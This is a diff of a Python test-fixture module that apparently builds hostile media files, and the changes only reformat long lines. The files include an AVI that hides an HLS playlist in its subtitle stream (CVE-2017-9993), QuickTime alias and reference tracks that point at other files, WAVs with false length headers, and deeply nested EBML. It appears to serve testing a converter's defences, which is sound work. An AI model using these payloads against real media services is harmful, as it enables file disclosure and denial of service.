@@ -1,3 +1,4 @@
+# ruff: noqa: E501 - a payload reads best in one piece
 """Sound and film that are lists of other files, and headers that lie (recipe 11)."""
 
 from __future__ import annotations
@@ -39,13 +40,29 @@ def _dash(bait: Bait) -> bytes:
 def _avi(bait: Bait) -> bytes:
     """The playlist that hid in the subtitles of a film (CVE-2017-9993)."""
     list_of_files = _hls(bait)
-    gab2 = b"GAB2\0\2\0" + struct.pack("<I", 10) + b"H\0L\0S\0\0\0\0\0" + struct.pack("<HI", 4, len(list_of_files)) + list_of_files
-    stream = b"strh" + struct.pack("<I", 56) + b"txts" + b"\0" * 16 + struct.pack("<IIIIII", 1, 1, 0, 1, 0, 0) + b"\0" * 12
+    gab2 = (
+        b"GAB2\0\2\0"
+        + struct.pack("<I", 10)
+        + b"H\0L\0S\0\0\0\0\0"
+        + struct.pack("<HI", 4, len(list_of_files))
+        + list_of_files
+    )
+    stream = (
+        b"strh" + struct.pack("<I", 56) + b"txts" + b"\0" * 16 + struct.pack("<IIIIII", 1, 1, 0, 1, 0, 0) + b"\0" * 12
+    )
     stream += b"strf" + struct.pack("<I", 40) + b"\0" * 40
     header = b"avih" + struct.pack("<I", 56) + b"\0" * 24 + struct.pack("<I", 1) + b"\0" * 28
     hdrl = b"hdrl" + header + b"LIST" + struct.pack("<I", len(stream) + 4) + b"strl" + stream
     frames = b"00tx" + struct.pack("<I", len(gab2)) + gab2 + b"\0" * (len(gab2) % 2)
-    body = b"AVI LIST" + struct.pack("<I", len(hdrl)) + hdrl + b"LIST" + struct.pack("<I", len(frames) + 4) + b"movi" + frames
+    body = (
+        b"AVI LIST"
+        + struct.pack("<I", len(hdrl))
+        + hdrl
+        + b"LIST"
+        + struct.pack("<I", len(frames) + 4)
+        + b"movi"
+        + frames
+    )
     return b"RIFF" + struct.pack("<I", len(body)) + body
 
 
@@ -55,7 +72,17 @@ def _box(kind: bytes, body: bytes) -> bytes:
 
 def _mov(*, reference: bytes = b"", samples: int = 1, size: int = 16, sides: tuple[int, int] = (16, 16)) -> bytes:
     """One video track of raw pictures. `reference` is the data reference that says where the bytes lie."""
-    kind = b"\0" * 6 + b"\0\1" + b"\0" * 16 + struct.pack(">HH", *sides) + b"\0\x48\0\0" * 2 + b"\0" * 4 + b"\0\1" + b"\0" * 32 + b"\0\x18\xff\xff"
+    kind = (
+        b"\0" * 6
+        + b"\0\1"
+        + b"\0" * 16
+        + struct.pack(">HH", *sides)
+        + b"\0\x48\0\0" * 2
+        + b"\0" * 4
+        + b"\0\1"
+        + b"\0" * 32
+        + b"\0\x18\xff\xff"
+    )
     table = _box(b"stbl", b"".join((
         _box(b"stsd", struct.pack(">II", 0, 1) + _box(b"raw ", kind)),
         _box(b"stts", struct.pack(">IIII", 0, 1, samples, 1)),
@@ -67,7 +94,14 @@ def _mov(*, reference: bytes = b"", samples: int = 1, size: int = 16, sides: tup
     minf = _box(b"minf", _box(b"vmhd", b"\0" * 12) + data + table)
     media = _box(b"mdia", _box(b"mdhd", b"\0" * 12 + struct.pack(">II", 25, samples) + b"\0" * 4)
                  + _box(b"hdlr", b"\0" * 8 + b"vide" + b"\0" * 13) + minf)  # fmt: skip
-    track = _box(b"trak", _box(b"tkhd", b"\0\0\0\3" + b"\0" * 8 + struct.pack(">I", 1) + b"\0" * 4 + struct.pack(">I", samples) + b"\0" * 60) + media)
+    track = _box(
+        b"trak",
+        _box(
+            b"tkhd",
+            b"\0\0\0\3" + b"\0" * 8 + struct.pack(">I", 1) + b"\0" * 4 + struct.pack(">I", samples) + b"\0" * 60,
+        )
+        + media,
+    )
     moov = _box(b"moov", _box(b"mvhd", b"\0" * 12 + struct.pack(">II", 25, samples) + b"\0" * 80) + track)
     return _box(b"ftyp", b"qt  \0\0\0\0") + _box(b"mdat", b"\x55" * 4096) + moov
 
@@ -75,7 +109,15 @@ def _mov(*, reference: bytes = b"", samples: int = 1, size: int = 16, sides: tup
 def _alias(bait: Bait) -> bytes:
     """A QuickTime alias: the samples lie in another file."""
     path = bait.file.encode()
-    record = b"\0" * 4 + b"\0" * 2 + struct.pack(">H", 150) + b"\0" * 142 + struct.pack(">HH", 2, len(path)) + path + b"\0" * (len(path) % 2)
+    record = (
+        b"\0" * 4
+        + b"\0" * 2
+        + struct.pack(">H", 150)
+        + b"\0" * 142
+        + struct.pack(">HH", 2, len(path))
+        + path
+        + b"\0" * (len(path) % 2)
+    )
     record += struct.pack(">HH", 18, len(path)) + path + b"\0" * (len(path) % 2) + b"\xff\xff\0\0"
     return _box(b"alis", b"\0\0\0\0" + record)
 
@@ -87,7 +129,16 @@ def _url_reference(bait: Bait) -> bytes:
 def wav(*, declared: int | None = None, data: bytes = b"\0\x10" * 8000) -> bytes:
     length = len(data) if declared is None else declared
     form = struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)
-    return b"RIFF" + struct.pack("<I", min(0xFFFFFFFF, length + 36)) + b"WAVEfmt " + struct.pack("<I", 16) + form + b"data" + struct.pack("<I", length) + data
+    return (
+        b"RIFF"
+        + struct.pack("<I", min(0xFFFFFFFF, length + 36))
+        + b"WAVEfmt "
+        + struct.pack("<I", 16)
+        + form
+        + b"data"
+        + struct.pack("<I", length)
+        + data
+    )
 
 
 def _ebml(depth: int) -> bytes:
@@ -98,7 +149,13 @@ def _ebml(depth: int) -> bytes:
         inner = b"\x67\xc8" + struct.pack(">Q", len(inner) | 1 << 56) + inner
         if len(inner) > 1 << 16:
             break
-    return head + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + b"\x12\x54\xc3\x67" + struct.pack(">Q", len(inner) | 1 << 56) + inner
+    return (
+        head
+        + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"
+        + b"\x12\x54\xc3\x67"
+        + struct.pack(">Q", len(inner) | 1 << 56)
+        + inner
+    )
 
 
 _NO_FILM = BAD | ends("unsupported_conversion")
